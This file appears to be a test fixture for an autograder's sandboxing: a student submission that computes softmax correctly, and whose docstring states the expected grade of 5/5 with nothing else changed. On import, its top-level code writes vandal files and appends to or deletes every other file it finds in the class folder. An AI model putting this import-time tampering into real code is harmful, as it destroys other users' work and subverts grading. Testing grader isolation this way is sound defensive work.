"""Hostile: a right answer, but on import it tries to overwrite and delete the other students'
files, to leave a file in the course folder and in /tmp, and to read the grader's files. The
grader's test writes the class folder's path into CLASS below. Expected: passed (5/5), and every
other file unchanged, nothing created."""
import os

import numpy as np

CLASS = "@CLASS@"
ROOT = os.environ.get("FLASHLIB_ROOT", "/nonexistent")
done = []
for path in (os.path.join(ROOT, "vandal_was_here.txt"), os.path.join(CLASS, "vandal.txt"),
             "/tmp/flashlib_vandal_was_here.txt"):
    try:
        with open(path, "w") as f:
            f.write("vandal")
        done.append(path)
    except OSError:
        pass
for folder, _, names in os.walk(CLASS):
    for name in names:
        path = os.path.join(folder, name)
        for attempt in (lambda: open(path, "a").write("\n# vandalised\n"), lambda: os.remove(path)):
            try:
                attempt()
                done.append(path)
            except OSError:
                pass
print("vandalised:", done)


def safe_softmax(x):
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
